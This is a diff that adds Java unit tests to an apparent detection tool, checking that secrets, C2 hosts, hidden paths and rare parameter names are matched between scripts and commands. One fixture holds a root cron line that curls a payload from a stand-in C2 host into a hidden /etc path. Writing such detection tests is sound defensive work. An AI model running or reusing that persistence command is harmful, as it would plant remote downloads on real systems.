@@ -69,6 +69,57 @@ final class FeaturesTest {
         }
     }
 
+    private static Map<String, String> script(String observables) {
+        return Map.of("location", "linux.cron.periodic", "target", "/opt/x/y", "observables", observables);
+    }
+
+    private static Set<String> marked(Feature feature, String observables) {
+        return Features.marked(script(observables), "a").values().getOrDefault(feature, Set.of());
+    }
+
+    @Test
+    void whatAScriptHoldsIsKnownInACommandAndTheOtherWayRound() {
+        // printf 'Zq8WnT4kV2xLpR7mJ5' | sha256sum
+        String digest = "7a7c5f7debee";
+        Map<String, String> command = Map.of(
+                "location", "linux.cron.system",
+                "target", "/usr/bin/curl",
+                "value", "* * * * * root curl -H Zq8WnT4kV2xLpR7mJ5 http://c2.mallory.example/x -o /etc/.k/z");
+        Map<Feature, Set<String>> inScript = Features.seen(
+                        script("host=c2.mallory.example\nsecret=" + digest + "\npath=/etc/.k/z"), "a")
+                .values();
+        Map<Feature, Set<String>> ofCommand = Features.marked(command, "a").values();
+        for (Feature feature : List.of(Feature.SECRET, Feature.ADDRESS, Feature.HIDDEN_PATH, Feature.SISTER_HOST)) {
+            assertFalse(ofCommand.getOrDefault(feature, Set.of()).isEmpty(), feature.name());
+            Set<String> known = inScript.getOrDefault(feature, Set.of());
+            assertTrue(known.containsAll(ofCommand.getOrDefault(feature, Set.of())), feature.name());
+        }
+        assertEquals(Set.of(digest), marked(Feature.SECRET, "secret=" + digest));
+        assertTrue(Features.seen(command, "a")
+                .values()
+                .getOrDefault(Feature.SECRET, Set.of())
+                .contains(digest));
+    }
+
+    @Test
+    void whatManyScriptsNameIsNoFeature() {
+        assertEquals(Set.of(), marked(Feature.HIDDEN_PATH, "path=/.ssh/authorized_keys\npath=/home/x/.bash_aliases"));
+        assertEquals(Set.of("/dev/shm/.k"), marked(Feature.HIDDEN_PATH, "path=/dev/shm/.k"));
+        assertEquals(
+                Set.of("klk123456", "zzcmd_run7"),
+                marked(
+                        Feature.RARE_WORD,
+                        "parameter=klk123456\nparameter=action\nparameter=page_id\nparameter=user2\nparameter=zzcmd_run7"));
+        assertEquals(Set.of(), marked(Feature.ADDRESS, "host=github.com"));
+        StringBuilder page = new StringBuilder("host=www.mairie.example");
+        for (int i = 0; i < 12; i++) {
+            page.append("\nhost=cdn").append(i).append(".library.example");
+        }
+        assertEquals(Set.of("www.mairie.example"), marked(Feature.ADDRESS, "host=www.mairie.example"));
+        assertEquals(Set.of(), marked(Feature.ADDRESS, page.toString()), "it names many, and is about none");
+        assertTrue(marked(Feature.SISTER_HOST, page.toString()).contains("www.mairie.example"));
+    }
+
     @Test
     void theSameBuildIsKnownUnderAnotherNameUnlessItsMakerSignedIt() {
         String build = "mvid:00112233-4455-6677-8899-aabbccddeeff";
